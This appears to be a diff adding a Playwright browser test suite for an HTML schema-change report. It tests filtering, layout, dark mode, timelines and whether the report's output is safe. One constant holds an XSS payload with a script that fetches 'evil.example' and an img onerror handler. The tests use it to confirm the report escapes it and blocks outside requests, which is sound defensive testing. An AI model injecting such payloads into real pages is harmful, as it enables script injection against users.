@@ -1,0 +1,253 @@
+"""The HTML report in a real browser: it filters, it fits anywhere, and it keeps to itself."""
+
+from __future__ import annotations
+
+import copy
+import json
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, sync_playwright
+from wireloom.changes import Report, compare
+from wireloom.changes.show.html import html
+from wireloom.config import Settings
+from wireloom.model.ir import Family
+from wireloom.pipeline import Pipeline
+
+HOSTILE = "<script>fetch('https://evil.example')</script><img src=x onerror=alert(1)>"
+
+OLD: dict[str, Any] = {
+    "openapi": "3.0.3",
+    "info": {"title": HOSTILE, "version": "1"},
+    "paths": {},
+    "components": {
+        "schemas": {
+            "Event": {
+                "type": "object",
+                "required": ["message"],
+                "properties": {
+                    "message": {
+                        "oneOf": [
+                            {"$ref": "#/components/schemas/Born"},
+                            {"$ref": "#/components/schemas/Sold"},
+                        ]
+                    }
+                },
+            },
+            "Born": {
+                "type": "object",
+                "required": ["type", "at"],
+                "properties": {
+                    "type": {"type": "string", "enum": ["born"]},
+                    "at": {"type": "string"},
+                    "pet": {"$ref": "#/components/schemas/Pet"},
+                },
+            },
+            "Sold": {
+                "type": "object",
+                "required": ["type"],
+                "properties": {"type": {"type": "string", "enum": ["sold"]}},
+            },
+            "Gone": {
+                "type": "object",
+                "required": ["type"],
+                "properties": {"type": {"type": "string", "enum": ["gone"]}},
+            },
+            "Pet": {
+                "type": "object",
+                "properties": {"kind": {"type": "string", "enum": ["cat", "dog"]}},
+            },
+        }
+    },
+}
+
+
+def newer() -> dict[str, Any]:
+    """The document with a type that changes, a message and a field that come, and many values."""
+    new = copy.deepcopy(OLD)
+    schemas = new["components"]["schemas"]
+    schemas["Event"]["properties"]["message"]["oneOf"].append({"$ref": "#/components/schemas/Gone"})
+    schemas["Born"]["properties"]["at"] = {"type": "number"}
+    schemas["Pet"]["properties"]["name"] = {"type": "string", "description": HOSTILE}
+    schemas["Pet"]["properties"]["kind"]["enum"] += [f"kind-{n}" for n in range(20)] + [HOSTILE]
+    return new
+
+
+def family(document: dict[str, Any], folder: Path) -> Family:
+    file = folder / "document.json"
+    file.write_text(json.dumps(document))
+    settings = Settings(schema=file, out=folder / "out", receive=("Event",))
+    return Pipeline(settings).ir
+
+
+@pytest.fixture(scope="module")
+def reports(tmp_path_factory: pytest.TempPathFactory) -> list[Report]:
+    """There and back again: two revisions."""
+    folder = tmp_path_factory.mktemp("documents")
+    old, new = family(OLD, folder), family(newer(), folder)
+    return [
+        compare(old, new, old_name="2026-01-01.json", new_name="2026-02-02.json"),
+        compare(new, old, old_name="2026-02-02.json", new_name="2026-03-03.json"),
+    ]
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    program = shutil.which("chromium") or shutil.which("chromium-browser")
+    if program is None:
+        pytest.skip("no Chromium: install the package chromium")
+    with sync_playwright() as playwright:
+        started = playwright.chromium.launch(executable_path=program, args=["--no-sandbox"])
+        yield started
+        started.close()
+
+
+class Opened:
+    """A report in the browser, and what the browser complained of or asked for."""
+
+    def __init__(self, browser: Browser, file: Path, text: str, **options: Any) -> None:
+        file.write_text(text, encoding="utf-8")
+        self.page: Page = browser.new_page(**options)
+        self.asked: list[str] = []
+        self.said: list[str] = []
+        self.page.on("request", lambda request: self.asked.append(request.url))
+        self.page.on("console", lambda message: self.said.append(message.text))
+        self.page.on("pageerror", lambda error: self.said.append(str(error)))
+        self.page.on("dialog", lambda dialog: self.said.append(dialog.message))
+        self.page.goto(file.as_uri())
+
+    def visible(self) -> list[str]:
+        return [each.inner_text() for each in self.page.locator(".finding:visible").all()]
+
+
+@pytest.fixture
+def one(browser: Browser, reports: list[Report], tmp_path: Path) -> Iterator[Opened]:
+    opened = Opened(browser, tmp_path / "report.html", html(reports[:1]))
+    yield opened
+    opened.page.close()
+
+
+def test_the_verdict_and_the_counts_come_first(one: Opened, reports: list[Report]) -> None:
+    assert one.page.locator(".verdict").first.inner_text().startswith("Breaking: ")
+    for severity, count in reports[0].counts.items():
+        chip = one.page.locator(f".chip[data-severity={severity}]")
+        assert chip.inner_text().split()[0] == str(count)
+    assert "What breaks" in one.page.locator(".topic h3").first.inner_text()
+
+
+def test_the_severities_filter(one: Opened, reports: list[Report]) -> None:
+    everything = one.page.locator(".finding").count()
+    assert everything == len(reports[0].groups)
+    for severity in ("breaks-reading", "breaks-sending", "new"):
+        one.page.click(f".chip[data-severity={severity}]")
+    words = [each for each in reports[0].groups if "words" in each.first.severities]
+    assert len(one.visible()) == len(words)
+    assert one.page.locator("#nothing").is_visible() == (not words)
+    one.page.click(".chip[data-severity=breaks-reading]")
+    assert any("at" in each for each in one.visible())
+    for severity in ("breaks-sending", "new"):
+        one.page.click(f".chip[data-severity={severity}]")
+    assert "lines" in one.page.inner_text("#shown")
+
+
+def test_the_class_filters(one: Opened) -> None:
+    offered = {each.get_attribute("value") for each in one.page.locator("option").all()}
+    assert "Born" in offered
+    one.page.fill("#class", "Born")
+    assert one.visible()
+    assert all("Born" in each for each in one.visible())
+    one.page.fill("#class", "no such thing")
+    assert not one.visible()
+    assert one.page.locator("#nothing").is_visible()
+    one.page.fill("#class", "")
+    assert not one.page.locator("#nothing").is_visible()
+
+
+def test_many_enum_values_are_one_line_that_unfolds(one: Opened) -> None:
+    (row,) = [
+        each for each in one.page.locator(".finding").all() if "21 values" in each.inner_text()
+    ]
+    assert not row.locator("text=kind-7").is_visible()
+    row.locator("summary", has_text="21 values").click()
+    assert row.locator("text=kind-7").is_visible()
+
+
+def test_nothing_of_a_document_becomes_code_and_nothing_leaves_the_page(one: Opened) -> None:
+    one.page.wait_for_timeout(200)
+    assert one.said == []
+    assert [url for url in one.asked if not url.startswith("file:")] == []
+    assert len(one.asked) == 1
+    assert one.page.locator("img").count() == 0
+    assert "<script>fetch" in one.page.inner_text("h1")
+
+
+def test_the_page_refuses_to_load_anything(one: Opened) -> None:
+    """Its policy holds even for a script that would get in."""
+    outcome = one.page.evaluate(
+        "fetch('http://127.0.0.1:9/').then(() => 'loaded', () => 'refused')"
+    )
+    assert outcome == "refused"
+    assert any("Content Security Policy" in each for each in one.said)
+
+
+def test_the_pictures_show_what_came(one: Opened) -> None:
+    union = one.page.locator("svg[aria-label^=Union]").first
+    assert {"born", "sold", "gone"} <= set(union.locator("text").all_text_contents())
+    assert "+ Gone" in union.locator(".added").all_text_contents()
+    tree = one.page.locator("svg[aria-label='Family tree']")
+    assert any("Pet" in each for each in tree.locator("text").all_text_contents())
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [360, 1200])
+def test_it_fits_a_phone_and_the_dark(
+    browser: Browser, reports: list[Report], tmp_path: Path, scheme: str, width: int
+) -> None:
+    view = {"width": width, "height": 800}
+    opened = Opened(browser, tmp_path / "a.html", html(reports), viewport=view, color_scheme=scheme)
+    assert opened.page.evaluate("document.documentElement.scrollWidth") <= width
+    paper, ink = opened.page.evaluate(
+        "[getComputedStyle(document.body).backgroundColor, getComputedStyle(document.body).color]"
+    )
+    assert (brightness(paper) > brightness(ink)) == (scheme == "light")
+    opened.page.close()
+
+
+def brightness(colour: str) -> int:
+    return sum(int(part) for part in colour.removeprefix("rgb(").removesuffix(")").split(","))
+
+
+def test_a_history_has_a_timeline_that_leads_to_its_revisions(
+    browser: Browser, reports: list[Report], tmp_path: Path
+) -> None:
+    opened = Opened(browser, tmp_path / "history.html", html(reports))
+    bars = opened.page.locator("svg[aria-label='Findings by revision'] a")
+    assert bars.count() == len(reports)
+    assert bars.nth(1).get_attribute("href") == "#r2"
+    bars.nth(1).click()
+    assert opened.page.evaluate("location.hash") == "#r2"
+    assert opened.page.locator("#r2 h2").inner_text() == "2026-02-02.json → 2026-03-03.json"
+    opened.page.close()
+
+
+def test_it_can_be_read_without_scripts(
+    browser: Browser, reports: list[Report], tmp_path: Path
+) -> None:
+    opened = Opened(browser, tmp_path / "a.html", html(reports[:1]), java_script_enabled=False)
+    assert opened.page.locator(".finding").count() == len(reports[0].groups)
+    assert opened.page.locator(".finding").first.is_visible()
+    opened.page.close()
+
+
+def test_nothing_found_is_a_page_too(reports: list[Report], tmp_path: Path) -> None:
+    same = family(OLD, tmp_path)
+    page = html([compare(same, same)])
+    assert "Nothing has changed." in page
+    assert "<li" not in page
+
+
+def test_the_same_report_is_the_same_page(reports: list[Report]) -> None:
+    assert html(reports) == html(reports)
